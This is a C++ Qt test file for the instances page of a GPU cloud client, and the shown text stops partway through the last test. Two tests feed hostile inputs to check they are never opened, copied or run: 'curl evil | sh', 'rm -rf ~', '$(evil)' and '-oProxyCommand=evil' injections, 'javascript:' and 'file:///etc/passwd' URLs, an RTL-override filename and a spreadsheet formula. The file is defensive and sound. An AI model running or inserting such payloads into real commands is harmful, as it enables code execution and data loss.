// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/settings/settings.h"
#include "core/settings/settingskeys.h"
#include "core/workflows/bulkrun.h"
#include "core/workflows/instancecommands.h"
#include "core/workflows/stores.h"
#include "tests/support/uifixture.h"
#include "ui/instances/actionfailure.h"
#include "ui/instances/instancedetails.h"
#include "ui/instances/instancespage.h"
#include "ui/instances/launcher.h"
#include "ui/models/instancemodel.h"
#include "ui/models/roles.h"
#include "ui/theme.h"
#include "ui/widgets/emptystate.h"
#include "ui/widgets/errorbanner.h"
#include "ui/widgets/resultlistdialog.h"
#include "ui/widgets/searchfield.h"
#include "ui/widgets/tableview.h"

#include <QAbstractButton>
#include <QAbstractItemView>
#include <QAction>
#include <QApplication>
#include <QClipboard>
#include <QContextMenuEvent>
#include <QElapsedTimer>
#include <QGuiApplication>
#include <QHeaderView>
#include <QJsonArray>
#include <QLabel>
#include <QLineEdit>
#include <QMenu>
#include <QPaintEvent>
#include <QPushButton>
#include <QScrollBar>
#include <QSignalSpy>
#include <QTabBar>
#include <QTest>

using namespace novita;

namespace {

class RecordingLauncher final : public Launcher
{
public:
    struct Log
    {
        QList<QUrl> urls;
        QStringList terminals;
        bool works = true;
    };
    explicit RecordingLauncher(Log *log) : m_log(log) {}
    bool openUrl(const QUrl &url) override
    {
        m_log->urls.append(url);
        return m_log->works;
    }
    bool openTerminal(const SshTarget &target) override
    {
        m_log->terminals.append(target.command());
        return m_log->works;
    }

private:
    Log *m_log;
};

/// Adds up what a widget is asked to paint.
class PaintWatch final : public QObject
{
public:
    explicit PaintWatch(QWidget *widget) { widget->installEventFilter(this); }
    bool eventFilter(QObject *, QEvent *event) override
    {
        if (event->type() == QEvent::Paint)
            m_region += static_cast<QPaintEvent *>(event)->region();
        return false;
    }
    QRegion take() { return std::exchange(m_region, {}); }

private:
    QRegion m_region;
};

ConnectionInfo connection()
{
    ConnectionInfo info;
    info.sshCommand = QStringLiteral("ssh -p 42210 root@proxy.us-ca-6.gpu-instance.novita.ai");
    info.sshPassword = QStringLiteral("correct horse");
    info.jupyterAddress = QStringLiteral("https://jupyter.example/lab?token=1");
    return info;
}

} // namespace

class TestInstancesPage final : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void cleanup();

    void everyControlHasAName();
    void subtitleTellsCountRunningAndAge();
    void statesOfThePage();
    void staleDataSaysSoAndStays();
    void filterNarrowsAndClears();
    void actionsFollowTheState();
    void readOnlyProfileDisablesChanges();
    void startGoesToTheCloudAndShowsAsAsked();
    void stopAsksAndCancelDoesNothing();
    void deleteNamesWhatIsLost();
    void deletingTenAsksForAWord();
    void productionAsksForAWord();
    void deleteLockHolds();
    void bulkEndsInAResultPerRow();
    void failedActionIsABanner();
    void failedActionCanBeRepeated();
    void namelessInstanceGoesByItsId();
    void hostileConnectionIsNeitherOpenedNorCopied();
    void hugeTextsStayShort();
    void importantColumnsStayInViewBesideTheDetails();
    void narrowPageHasItsDetailsBelow();
    void copyTakesTheSelectedRows();
    void tabGoesThroughThePageInOrder();
    void menuKeyOpensTheMenuAtTheRow();
    void detailsShowTheConnection();
    void detailsHideOldAddresses();
    void escapeClosesDetailsAndIsRemembered();
    void launchersGetCheckedTargets();
    void hostileSshCommandIsNeverRun();
    void keyboardStaysAfterDeletion();
    void selectAllAndDeleteKey();
    void layoutIsKeptById();
    void sessionStateRoundTrip();
    void aPollRepaintsOnlyWhatChanged();
    void tickRepaintsOnlyLiveColumns();
    void themeAndLanguageSwitchLive();

private:
    template<typename T>
    T *named(const QString &name) const
    {
        const QList<T *> all = m_page->findChildren<T *>();
        for (T *one : all) {
            if (one->accessibleName() == name)
                return one;
        }
        return nullptr;
    }
    TableView *table() const { return named<TableView>(QStringLiteral("Instances table")); }
    QAbstractItemModel *model() const { return table()->model(); }
    QAction *action(const QString &text) const
    {
        for (QAction *one : m_page->pageActions()) {
            if (one->text() == text)
                return one;
        }
        return nullptr;
    }
    void show(int count)
    {
        m_fixture->fill(count);
        static_cast<InstanceModel *>(model())->flush();
        m_page->resize(1100, 700);
        m_page->show();
        QVERIFY(QTest::qWaitForWindowExposed(m_page.get()));
        m_page->activate();
    }
    void select(const QStringList &ids)
    {
        QItemSelection rows;
        for (const QString &id : ids) {
            const int row = static_cast<InstanceModel *>(model())->rowOf(id);
            QVERIFY(row >= 0);
            rows.select(model()->index(row, 0), model()->index(row, model()->columnCount() - 1));
        }
        table()->selectionModel()->select(rows, QItemSelectionModel::ClearAndSelect);
        const int first = static_cast<InstanceModel *>(model())->rowOf(ids.first());
        table()->selectionModel()->setCurrentIndex(model()->index(first, 0), QItemSelectionModel::NoUpdate);
    }
    QAbstractButton *buttonReading(const QString &text) const
    {
        const QList<QAbstractButton *> all = m_page->findChildren<QAbstractButton *>();
        const auto it = std::find_if(all.cbegin(), all.cend(), [&text](const QAbstractButton *one) { return one->isVisible() && one->text() == text; });
        return it == all.cend() ? nullptr : *it;
    }
    bool anyLabelReads(const QString &text) const
    {
        const QList<QLabel *> all = m_page->findChildren<QLabel *>();
        return std::any_of(all.cbegin(), all.cend(), [&text](const QLabel *one) { return one->isVisible() && one->text() == text; });
    }
    void adopt(const Instance &one) { m_fixture->stores().instances.adoptRows({one}, m_fixture->clock().now(), false); }

    std::unique_ptr<UiFixture> m_fixture;
    RecordingLauncher::Log m_launched;
    std::unique_ptr<InstancesPage> m_page;
};

void TestInstancesPage::init()
{
    m_fixture = std::make_unique<UiFixture>();
    m_launched = {};
    m_page = std::make_unique<InstancesPage>(m_fixture->context(), std::make_unique<RecordingLauncher>(&m_launched));
}

void TestInstancesPage::cleanup()
{
    m_page.reset();
    m_fixture.reset();
}

void TestInstancesPage::everyControlHasAName()
{
    show(3);
    Instance one = m_fixture->instance(1);
    one.connection = connection();
    one.envs = {{QStringLiteral("TOKEN"), QStringLiteral("x")}};
    adopt(one);
    m_page->showInstance(QStringLiteral("i-1"));
    QVERIFY(table());
    QVERIFY(named<SearchField>(QStringLiteral("Filter instances")));
    for (const char *name : {"Start", "Stop", "Restart", "Delete", "New instance"})
        QVERIFY2(named<QAbstractButton>(QLatin1String(name)), name);
    for (const char *text : {"Clone…", "Copy SSH command", "Open Jupyter", "Open terminal"})
        QVERIFY2(action(QString::fromUtf8(text)), text);
    const QList<QWidget *> widgets = m_page->findChildren<QWidget *>();
    for (QWidget *widget : widgets) {
        const bool interactive = qobject_cast<QAbstractButton *>(widget) || qobject_cast<QLineEdit *>(widget)
                                 || qobject_cast<QAbstractItemView *>(widget);
        const bool ownPart = qobject_cast<QHeaderView *>(widget) || qobject_cast<QTabBar *>(widget->parentWidget())
                             || qobject_cast<QLineEdit *>(widget->parentWidget())
                             || widget->objectName().startsWith(QLatin1String("qt_"));
        if (!interactive || ownPart || !widget->isVisible() || qobject_cast<QTableView *>(widget->parentWidget()))
            continue;
        const auto *button = qobject_cast<QAbstractButton *>(widget);
        QVERIFY2(!widget->accessibleName().isEmpty() || (button && !button->text().isEmpty()), widget->metaObject()->className());
    }
}

void TestInstancesPage::subtitleTellsCountRunningAndAge()
{
    show(6);
    m_fixture->clock().advance(Seconds(3));
    auto *subtitle = m_page->findChild<QLabel *>(QStringLiteral("pageSubtitle"));
    QVERIFY(subtitle);
    m_page->activate();
    QTRY_COMPARE(subtitle->accessibleName(), QStringLiteral("6 · 3 running · 3 s old"));
}

void TestInstancesPage::statesOfThePage()
{
    m_page->resize(1000, 600);
    m_page->show();
    auto *empty = m_page->findChild<EmptyState *>();
    QVERIFY(!empty->isVisible());
    QSignalSpy create(m_page.get(), &Page::newInstanceRequested);

    m_fixture->stores().instances.markRefreshFailed(Error::make(ErrorKind::Network, QStringLiteral("unreachable")));
    QTRY_VERIFY(empty->isVisible());
    QVERIFY(!empty->sentence().isEmpty());
    const int before = m_fixture->network().count();
    empty->button()->click();
    QTRY_VERIFY(m_fixture->network().count() > before);

    m_fixture->stores().instances.adoptList({}, m_fixture->clock().now());
    QTRY_COMPARE(empty->sentence(), QStringLiteral("You have no instances yet."));
    empty->button()->click();
    QCOMPARE(create.count(), 1);

    m_fixture->fill(4);
    QTRY_VERIFY(table()->isVisible());
    QTRY_VERIFY(m_page->isFilled());
}

void TestInstancesPage::staleDataSaysSoAndStays()
{
    show(4);
    const auto banners = m_page->findChildren<ErrorBanner *>();
    const auto showing = [&banners] {
        return std::any_of(banners.cbegin(), banners.cend(), [](const ErrorBanner *banner) { return banner->isShowing(); });
    };
    auto &store = m_fixture->stores().instances;
    store.markRefreshFailed(Error::make(ErrorKind::Timeout, QStringLiteral("no answer")));
    QVERIFY(!showing());
    store.markRefreshFailed(Error::make(ErrorKind::Timeout, QStringLiteral("no answer")));
    store.markRefreshFailed(Error::make(ErrorKind::Timeout, QStringLiteral("no answer")));
    QVERIFY(showing());
    QCOMPARE(model()->rowCount(), 4);
    store.markRefreshed(m_fixture->clock().now());
    QVERIFY(!showing());
    store.markRefreshFailed(Error::make(ErrorKind::Unauthorized, QStringLiteral("bad key")));
    QVERIFY(showing());
}

void TestInstancesPage::filterNarrowsAndClears()
{
    show(40);
    auto *filter = named<SearchField>(QStringLiteral("Filter instances"));
    m_page->focusFilter();
    QTest::keyClicks(filter, QStringLiteral("gpu:h100 state:running"));
    QTRY_VERIFY(model()->rowCount() < 40);
    for (int row = 0; row < model()->rowCount(); ++row)
        QCOMPARE(model()->index(row, InstanceModel::Gpu).data().toString().left(4), QStringLiteral("H100"));
    filter->setFilter(QStringLiteral("nothing-like-it"));
    auto *empty = m_page->findChild<EmptyState *>();
    QTRY_VERIFY(empty->isVisible());
    QVERIFY(empty->sentence().contains(QLatin1String("nothing-like-it")));
    empty->button()->click();
    QTRY_COMPARE(model()->rowCount(), 40);
    QVERIFY(filter->text().isEmpty());
}

void TestInstancesPage::actionsFollowTheState()
{
    show(6);
    QVERIFY(!action(QStringLiteral("Start"))->isEnabled());
    QVERIFY(!action(QStringLiteral("Start"))->toolTip().isEmpty());
    select({QStringLiteral("i-2")}); // stopped
    QVERIFY(action(QStringLiteral("Start"))->isEnabled());
    QVERIFY(!action(QStringLiteral("Stop"))->isEnabled());
    QVERIFY(action(QStringLiteral("Stop"))->toolTip() != QLatin1String("Stop"));
    select({QStringLiteral("i-0")}); // running
    QVERIFY(!action(QStringLiteral("Start"))->isEnabled());
    QVERIFY(action(QStringLiteral("Stop"))->isEnabled());
    QVERIFY(action(QStringLiteral("Restart"))->isEnabled());
    QVERIFY(action(QStringLiteral("Delete"))->isEnabled());
    select({QStringLiteral("i-0"), QStringLiteral("i-2")});
    QVERIFY(action(QStringLiteral("Start"))->isEnabled());
    QVERIFY(action(QStringLiteral("Stop"))->isEnabled());
    QVERIFY(!action(QStringLiteral("Clone…"))->isEnabled());
    for (const char *later : {"Edit…", "Save image…", "Upgrade…", "Migrate", "Renew…"})
        QVERIFY2(!action(QString::fromUtf8(later)), later);
}

void TestInstancesPage::readOnlyProfileDisablesChanges()
{
    show(3);
    m_fixture->useProfile(false, true);
    select({QStringLiteral("i-0")});
    QVERIFY(!action(QStringLiteral("Stop"))->isEnabled());
    QVERIFY(!action(QStringLiteral("Delete"))->isEnabled());
    QVERIFY(!action(QStringLiteral("Delete"))->toolTip().isEmpty());
}

void TestInstancesPage::startGoesToTheCloudAndShowsAsAsked()
{
    show(6);
    select({QStringLiteral("i-2")});
    action(QStringLiteral("Start"))->trigger();
    QVERIFY(m_fixture->prompts().asked().isEmpty());
    QTRY_COMPARE(m_fixture->writes().size(), 1);
    QVERIFY(m_fixture->writes().first().endsWith(QLatin1String("/instance/start")));
    const int row = static_cast<InstanceModel *>(model())->rowOf(QStringLiteral("i-2"));
    QTRY_COMPARE(model()->index(row, InstanceModel::State).data().toString(), QStringLiteral("Starting (asked)"));
}

void TestInstancesPage::stopAsksAndCancelDoesNothing()
{
    show(6);
    select({QStringLiteral("i-0")});
    action(QStringLiteral("Stop"))->trigger();
    QCOMPARE(m_fixture->prompts().asked().size(), 1);
    const ConfirmRequest asked = m_fixture->prompts().asked().first();
    QCOMPARE(asked.title, QStringLiteral("Stop worker-0?"));
    QVERIFY(asked.destructive);
    QVERIFY(asked.bullets.join(u'\n').contains(QLatin1String("/workspace")));
    QVERIFY(asked.keptBullets.join(u'\n').contains(QLatin1String("/network")));
    QVERIFY(m_fixture->writes().isEmpty());
    m_fixture->prompts().answerNext(true);
    action(QStringLiteral("Stop"))->trigger();
    QTRY_COMPARE(m_fixture->writes().size(), 1);
}

void TestInstancesPage::deleteNamesWhatIsLost()
{
    show(6);
    select({QStringLiteral("i-0"), QStringLiteral("i-1"), QStringLiteral("i-3")});
    action(QStringLiteral("Delete"))->trigger();
    const ConfirmRequest asked = m_fixture->prompts().asked().value(0);
    QVERIFY(asked.confirmLabel.startsWith(QLatin1String("Delete 3 instance")));
    for (const char *name : {"worker-0", "worker-1", "worker-3"})
        QVERIFY2(asked.bullets.join(u'\n').contains(QLatin1String(name)), name);
    QVERIFY(asked.typeToConfirm.isEmpty());
    QVERIFY(asked.destructive);
    QVERIFY(m_fixture->writes().isEmpty());
}

void TestInstancesPage::deletingTenAsksForAWord()
{
    show(12);
    table()->selectAll();
    action(QStringLiteral("Delete"))->trigger();
    QCOMPARE(m_fixture->prompts().asked().value(0).typeToConfirm, QStringLiteral("delete"));
}

void TestInstancesPage::productionAsksForAWord()
{
    show(3);
    m_fixture->useProfile(true, false);
    select({QStringLiteral("i-0")});
    action(QStringLiteral("Delete"))->trigger();
    QCOMPARE(m_fixture->prompts().asked().value(0).typeToConfirm, QStringLiteral("delete"));
    select({QStringLiteral("i-2")});
    action(QStringLiteral("Start"))->trigger();
    QCOMPARE(m_fixture->prompts().asked().size(), 2);
}

void TestInstancesPage::deleteLockHolds()
{
    show(3);
    select({QStringLiteral("i-0")});
    QAction *lock = action(QStringLiteral("Delete lock"));
    QVERIFY(!lock->isChecked());
    lock->trigger();
    QVERIFY(lock->isChecked());
    QVERIFY(!action(QStringLiteral("Delete"))->isEnabled());
    select({QStringLiteral("i-1")});
    QVERIFY(!lock->isChecked());
    select({QStringLiteral("i-0")});
    lock->trigger();
    QVERIFY(action(QStringLiteral("Delete"))->isEnabled());
}

void TestInstancesPage::bulkEndsInAResultPerRow()
{
    show(6);
    m_fixture->network().setResponder([](const FakeRequest &request) {
        if (request.body.contains("i-1"))
            return FakeAnswer::payload(R"({"code":400,"reason":"BALANCE_NOT_ENOUGH","message":"no money"})", 400);
        return FakeAnswer::payload("{}");
    });
    m_fixture->prompts().answerNext(true);
    select({QStringLiteral("i-0"), QStringLiteral("i-1"), QStringLiteral("i-2")}); // i-2 is stopped already
    action(QStringLiteral("Stop"))->trigger();
    QTRY_VERIFY(m_page->findChild<ResultListDialog *>());
    auto *dialog = m_page->findChild<ResultListDialog *>();
    auto *results = dialog->findChild<TableView *>();
    const auto state = [results](int row) { return results->model()->index(row, 1).data().toString(); };
    QCOMPARE(results->model()->rowCount(), 3);
    QStringList states;
    QTRY_VERIFY((states = {state(0), state(1), state(2)}, states.contains(QStringLiteral("Failed"))));
    QTRY_VERIFY((states = {state(0), state(1), state(2)}, states.contains(QStringLiteral("Skipped"))));
    QVERIFY(m_fixture->writes().size() >= 2);
    dialog->reject();
    QTRY_VERIFY(!m_page->findChild<ResultListDialog *>());
}

void TestInstancesPage::failedActionIsABanner()
{
    show(6);
    m_fixture->network().setResponder([](const FakeRequest &request) {
        return request.verb == "POST" ? FakeAnswer::payload(R"({"code":400,"reason":"INSUFFICIENT_RESOURCE","message":"none left"})", 400)
                                      : FakeAnswer::payload("{}");
    });
    select({QStringLiteral("i-2")});
    action(QStringLiteral("Start"))->trigger();
    const auto banners = m_page->findChildren<ErrorBanner *>();
    QTRY_VERIFY(std::any_of(banners.cbegin(), banners.cend(), [](const ErrorBanner *banner) { return banner->isShowing(); }));
    for (const ErrorBanner *banner : banners)
        QVERIFY2(!banner->isShowing() || banner->sentence().startsWith(u"Could not start “worker-2”: "_qs), qPrintable(banner->sentence()));
}

void TestInstancesPage::failedActionCanBeRepeated()
{
    show(6);
    bool works = false;
    m_fixture->network().setResponder([&works](const FakeRequest &request) {
        return request.verb == "POST" && !works ? FakeAnswer::transportError(QNetworkReply::ConnectionRefusedError) : FakeAnswer::payload("{}");
    });
    select({QStringLiteral("i-2")});
    action(QStringLiteral("Start"))->trigger();
    QAbstractButton *retry = nullptr;
    QTRY_VERIFY((retry = buttonReading(QStringLiteral("Retry"))));
    works = true;
    const qsizetype before = m_fixture->writes().size();
    retry->click();
    QTRY_VERIFY(m_fixture->writes().size() > before);
    QTRY_VERIFY(!buttonReading(QStringLiteral("Retry")));
    QVERIFY(m_fixture->prompts().asked().isEmpty());

    const Error base = Error::make(ErrorKind::Network, QStringLiteral("x"));
    ActionFailure failure{InstanceId(QStringLiteral("i")), QStringLiteral("a"), InstanceAction::Delete, base};
    QCOMPARE(failure.what(), QStringLiteral("Could not delete “a”"));
    QVERIFY(failure.mayRepeat());
    failure.error.effectUnknown = true;
    QVERIFY(!failure.mayRepeat());
    failure.error = Error::make(ErrorKind::Conflict, QStringLiteral("x"));
    QVERIFY(!failure.mayRepeat());
}

void TestInstancesPage::namelessInstanceGoesByItsId()
{
    show(3);
    for (const QString &name : {QString(), QStringLiteral("  "), QStringLiteral("\u200b\u202e")}) {
        Instance one = m_fixture->instance(0);
        one.name = name;
        adopt(one);
        static_cast<InstanceModel *>(model())->flush();
        const int row = static_cast<InstanceModel *>(model())->rowOf(QStringLiteral("i-0"));
        QCOMPARE(model()->index(row, InstanceModel::Name).data().toString(), QStringLiteral("i-0"));
        QVERIFY(model()->index(row, InstanceModel::Name).data(StandInRole).toBool());
    }
    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
    QVERIFY(anyLabelReads(QStringLiteral("i-0")));
    action(QStringLiteral("Stop"))->trigger();
    QCOMPARE(m_fixture->prompts().asked().value(0).title, QStringLiteral("Stop i-0?"));
    BulkRun *run = m_fixture->context().commands.runBulk({InstanceId(QStringLiteral("i-0"))}, InstanceAction::Stop);
    QCOMPARE(run->rows().first().name, QStringLiteral("i-0"));
    delete run;
    const auto &events = m_fixture->stores().activity.events();
    for (const ActivityEvent &event : events)
        QVERIFY2(!event.text.contains(u"“”"_qs), qPrintable(event.text));
}

void TestInstancesPage::hostileConnectionIsNeitherOpenedNorCopied()
{
    show(3);
    Instance one = m_fixture->instance(0);
    one.connection = connection();
    one.connection->sshCommand = QStringLiteral("ssh -p 22 root@host$(evil)\ncurl evil | sh");
    one.connection->sshPassword = QStringLiteral("secret\nrm -rf ~\n");
    one.connection->jupyterAddress = QStringLiteral("javascript:alert(1)");
    one.connection->terminalAddress = QStringLiteral("https://a.example/\u202egnp.exe");
    one.ports = {{8080, QStringLiteral("http"), QStringLiteral("javascript:alert(1)")},
                 {8081, QStringLiteral("http"), QStringLiteral("file:///etc/passwd")},
                 {8082, QStringLiteral("http"), QStringLiteral("host:1\nevil")},
                 {8083, QStringLiteral("<b>http</b>"), QStringLiteral("https://fine.example")}};
    adopt(one);
    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
    QGuiApplication::clipboard()->setText(QStringLiteral("before"));
    for (const char *name : {"Copy SSH command", "Copy SSH password", "Copy Web terminal address", "Copy address of port 8082"}) {
        auto *button = named<QAbstractButton>(QLatin1String(name));
        QVERIFY2(button && !button->isEnabled(), name);
        button->click();
    }
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("before"));
    QVERIFY(named<QAbstractButton>(QStringLiteral("Copy SSH password"))->toolTip().contains(QLatin1String("not copied")));
    QVERIFY(!action(QStringLiteral("Copy SSH command"))->isEnabled());
    QVERIFY(!action(QStringLiteral("Open Jupyter"))->isEnabled());
    for (const char *name : {"Open Jupyter address", "Open port 8080", "Open port 8081", "Open port 8082"}) {
        auto *button = named<QAbstractButton>(QLatin1String(name));
        QVERIFY2(!button || !button->isVisible(), name);
    }
    const QList<QLabel *> labels = m_page->findChildren<QLabel *>();
    for (const QLabel *label : labels) {
        QVERIFY(label->textFormat() == Qt::PlainText || label->text().isEmpty());
        QVERIFY2(!label->text().contains(QChar(0x202e)), qPrintable(label->text()));
    }
    QVERIFY(m_launched.urls.isEmpty());
}

void TestInstancesPage::hugeTextsStayShort()
{
    show(3);
    const QString huge(1 << 20, u'x');
    Instance one = m_fixture->instance(0);
    one.name = huge;
    one.productName = one.clusterName = one.statusError = one.imageUrl = one.command = huge;
    one.status = InstanceStatus::Unknown;
    one.statusText = one.billingText = huge;
    one.billing = BillingMode::Unknown;
    adopt(one);
    static_cast<InstanceModel *>(model())->flush();
    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
    const int row = static_cast<InstanceModel *>(model())->rowOf(QStringLiteral("i-0"));
    for (int column = 0; column < model()->columnCount(); ++column) {
        for (const int role : {int(Qt::DisplayRole), int(Qt::ToolTipRole), int(NoteRole)})
            QVERIFY(model()->index(row, column).data(role).toString().size() < 2000);
    }
    QElapsedTimer clock;
    clock.start();
    QVERIFY(!m_page->grab().isNull());
    QVERIFY2(clock.elapsed() < 3000, "a page that paints a megabyte of text stands still");
    action(QStringLiteral("Delete"))->trigger();
    QVERIFY(m_fixture->prompts().asked().isEmpty() || m_fixture->prompts().asked().first().title.size() < 400);
}

void TestInstancesPage::importantColumnsStayInViewBesideTheDetails()
{
    show(6);
    // What the main window leaves of 1280 x 800 pixels.
    m_page->resize(1080, 730);
    QVERIFY(!table()->isColumnHidden(InstanceModel::Age));
    m_page->showInstance(QStringLiteral("i-0"));
    auto *details = m_page->findChild<InstanceDetails *>();
    QTRY_VERIFY(details->isVisible());
    QVERIFY(details->mapTo(m_page.get(), QPoint()).x() > table()->mapTo(m_page.get(), QPoint()).x() + 200);
    QTRY_VERIFY(table()->isColumnHidden(InstanceModel::Age));
    for (const auto column : {InstanceModel::Name, InstanceModel::State, InstanceModel::Gpu, InstanceModel::Price, InstanceModel::Cost}) {
        QVERIFY2(!table()->isColumnHidden(column), qPrintable(QString::number(column)));
        QVERIFY(table()->columnViewportPosition(column) + table()->columnWidth(column) <= table()->viewport()->width() + 1);
    }
    QTRY_VERIFY(!table()->horizontalScrollBar()->isVisible());
    table()->setFocus();
    QTest::keyClick(table(), Qt::Key_Escape);
    QTRY_VERIFY(!table()->isColumnHidden(InstanceModel::Age));
    // Leaving for want of room is not the person's choice.
    m_page->showInstance(QStringLiteral("i-0"));
    QTRY_VERIFY(table()->isColumnHidden(InstanceModel::Age));
    const QJsonArray columns = table()->saveLayout().value(QStringLiteral("columns")).toArray();
    for (const QJsonValue &column : columns)
        QVERIFY(!column.toObject().value(QStringLiteral("hidden")).toBool());
}

void TestInstancesPage::narrowPageHasItsDetailsBelow()
{
    show(6);
    m_page->resize(780, 640);
    m_page->showInstance(QStringLiteral("i-0"));
    auto *details = m_page->findChild<InstanceDetails *>();
    QTRY_VERIFY(details->isVisible());
    QTRY_VERIFY(details->mapTo(m_page.get(), QPoint()).y() > table()->mapTo(m_page.get(), QPoint()).y() + 40);
    m_page->resize(1400, 640);
    QTRY_VERIFY(details->mapTo(m_page.get(), QPoint()).x() > table()->mapTo(m_page.get(), QPoint()).x() + 200);
}

void TestInstancesPage::copyTakesTheSelectedRows()
{
    show(4);
    Instance one = m_fixture->instance(1);
    one.name = QStringLiteral("=HYPERLINK(\"evil\")\tx");
    adopt(one);
    static_cast<InstanceModel *>(model())->flush();
    QVERIFY(QTest::qWaitForWindowActive(m_page.get()));
    table()->setFocus();
    select({QStringLiteral("i-0"), QStringLiteral("i-1")});
    QTest::keyClick(table(), Qt::Key_C, Qt::ControlModifier);
    const QStringList lines = QGuiApplication::clipboard()->text().split(u'\n');
    QCOMPARE(lines.size(), 2);
    QVERIFY(lines.join(u'|').contains(QLatin1String("'=HYPERLINK(\"evil\") x\t")));
    QVERIFY(lines.join(u'|').contains(QLatin1String("worker-0\tRunning\tRTX 4090 24GB")));
    QCOMPARE(lines.first().count(u'\t'), lines.last().count(u'\t'));
}

void TestInstancesPage::tabGoesThroughThePageInOrder()
{
    show(4);
    m_page->showInstance(QStringLiteral("i-0"));
    QVERIFY(QTest::qWaitForWindowActive(m_page.get()));
    m_page->focusFilter();
    const QList<QWidget *> wanted{named<QAbstractButton>(QStringLiteral("Columns")), table()};
    for (QWidget *next : wanted) {
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
        QCOMPARE(QApplication::focusWidget(), next);
    }
    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
    QVERIFY(m_page->findChild<InstanceDetails *>()->isAncestorOf(QApplication::focusWidget()));
}

void TestInstancesPage::menuKeyOpensTheMenuAtTheRow()
{
    show(4);
    table()->setFocus();
    select({QStringLiteral("i-0")});
    const QPoint middle = table()->visualRect(table()->currentIndex()).center();
    QContextMenuEvent event(QContextMenuEvent::Keyboard, middle, table()->viewport()->mapToGlobal(middle));
    QApplication::sendEvent(table(), &event);
    QMenu *menu = nullptr;
    QTRY_VERIFY((menu = qobject_cast<QMenu *>(QApplication::activePopupWidget())));
    QStringList texts;
    for (const QAction *one : menu->actions())
        texts.append(one->text());
    QVERIFY(texts.contains(QStringLiteral("Stop")));
    QVERIFY(texts.contains(QStringLiteral("Copy")));
    menu->close();
}

void TestInstancesPage::detailsShowTheConnection()
{
    show(6);
    Instance one = m_fixture->instance(0);
    one.connection = connection();
    one.ports = {{8080, QStringLiteral("http"), QStringLiteral("https://p.example")},
                 {9000, QStringLiteral("http"), QStringLiteral("file:///etc/passwd")}};
    one.envs = {{QStringLiteral("TOKEN"), QStringLiteral("hunter2")}};
    adopt(one);
    QVERIFY(m_page->showInstance(QStringLiteral("i-0")));
    auto *details = m_page->findChild<InstanceDetails *>();
    QVERIFY(details->isVisible());
    auto *password = named<QLineEdit>(QStringLiteral("SSH password"));
    QVERIFY(password);
    QCOMPARE(password->echoMode(), QLineEdit::Password);
    QCOMPARE(named<QLineEdit>(QStringLiteral("SSH command"))->text(), one.connection->sshCommand);
    named<QAbstractButton>(QStringLiteral("Copy SSH password"))->click();
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("correct horse"));
    QCOMPARE(named<QLineEdit>(QStringLiteral("TOKEN"))->echoMode(), QLineEdit::Password);
    named<QAbstractButton>(QStringLiteral("Open port 8080"))->click();
    QCOMPARE(m_launched.urls, QList<QUrl>{QUrl(QStringLiteral("https://p.example"))});
    QVERIFY(!named<QAbstractButton>(QStringLiteral("Open port 9000")));
    QTRY_VERIFY(m_fixture->network().count() > 0); // the detail is read anew
}

void TestInstancesPage::detailsHideOldAddresses()
{
    show(6);
    Instance one = m_fixture->instance(0);
    one.connection = connection();
    adopt(one);
    m_page->showInstance(QStringLiteral("i-0"));
    one.status = InstanceStatus::Exited;
    one.statusText = QStringLiteral("exited");
    adopt(one);
    QTRY_VERIFY(named<QLineEdit>(QStringLiteral("SSH command"))->text().isEmpty());
    QVERIFY(named<QLineEdit>(QStringLiteral("SSH password"))->text().isEmpty());
    QTRY_VERIFY(!action(QStringLiteral("Copy SSH command"))->isEnabled());
}

void TestInstancesPage::escapeClosesDetailsAndIsRemembered()
{
    show(6);
    m_page->showInstance(QStringLiteral("i-3"));
    auto *details = m_page->findChild<InstanceDetails *>();
    QVERIFY(details->isVisible());
    table()->setFocus();
    QTest::keyClick(table(), Qt::Key_Escape);
    QVERIFY(!details->isVisible());
    QTest::keyClick(table(), Qt::Key_Down);
    QVERIFY(!details->isVisible());
    QVERIFY(!m_page->saveState().value(QStringLiteral("details")).toBool());
    QTest::keyClick(table(), Qt::Key_Return);
    QVERIFY(details->isVisible());
}

void TestInstancesPage::launchersGetCheckedTargets()
{
    show(3);
    Instance one = m_fixture->instance(0);
    one.connection = connection();
    adopt(one);
    select({QStringLiteral("i-0")});
    action(QStringLiteral("Open terminal"))->trigger();
    QCOMPARE(m_launched.terminals, QStringList{one.connection->sshCommand});
    action(QStringLiteral("Open Jupyter"))->trigger();
    QCOMPARE(m_launched.urls, QList<QUrl>{QUrl(one.connection->jupyterAddress)});
    action(QStringLiteral("Copy SSH command"))->trigger();
    QCOMPARE(QGuiApplication::clipboard()->text(), one.connection->sshCommand);
    m_launched.works = false;
    action(QStringLiteral("Open terminal"))->trigger();
    const auto banners = m_page->findChildren<ErrorBanner *>();
    QVERIFY(std::any_of(banners.cbegin(), banners.cend(), [](const ErrorBanner *banner) { return banner->isShowing(); }));
}

void TestInstancesPage::hostileSshCommandIsNeverRun()
{
    show(3);
    for (const char *hostile : {"ssh -p 22 root@-oProxyCommand=evil", "ssh root@host;rm", "ssh -p 22 root@$(evil)", "ssh root@a`b`",
                                "curl evil | sh", "ssh -p 22 root@host\nevil"}) {
        Instance one = m_fixture->instance(0);
        one.connection = connection();
        one.connection->sshCommand = QString::fromLatin1(hostile);
        adopt(one);
        select({QStringLiteral("i-0")});
        if (const auto target = SshTarget::from(*one.connection)) {
            // What passes is made of checked parts only.
            for (const QChar c : target->command())
                QVERIFY(c.isLetterOrNumber() || QStringLiteral(" .-_@").contains(c));
        } else {
            QVERIFY(!action(QStringLiteral("Open terminal"))->isEnabled());
            QVERIFY(!action(QStringLiteral("Copy SSH command"))->isEnabled());
        }
    }
    QVERIFY(webUrl(QStringLiteral("https://a.example/x")));
    for (const char *bad : {"javascript:alert(1)", "file:///etc/passwd", "", "https://", "https://user:pw@a.example", "ssh://a", "http:///x"})
        QVERIFY2(!webUrl(QString::fromLatin1(bad)), bad);
    for (const TerminalProgram &terminal : terminalPrograms())
        QVERIFY(!terminal.before.contains(QStringLiteral("-c")));
}

void TestInstancesPage::keyboardStaysAfterDeletion()
{
    show(10);
    table()->setFocus();
    select({QStringLiteral("i-4")});
    const int row = table()->currentIndex().row();
    m_fixture->stores().instances.remove({InstanceId(QStringLiteral("i-4"))});
